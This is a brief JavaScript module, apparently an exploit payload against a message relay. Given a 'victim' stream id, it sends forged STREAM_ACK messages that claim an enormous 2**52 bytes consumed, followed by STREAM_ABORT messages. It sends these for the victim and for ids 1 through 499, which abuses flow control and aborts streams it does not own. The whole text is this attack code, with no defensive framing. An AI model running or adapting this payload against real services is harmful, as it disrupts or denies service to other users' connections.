export default (victim) => {
  for (const id of [victim, ...Array(500).keys()].filter((id) => id > 0)) {
    relay.postMessage({ type: 'STREAM_ACK', id, consumed: 2 ** 52 })
    relay.postMessage({ type: 'STREAM_ABORT', id, reason: 'signal' })
  }
}
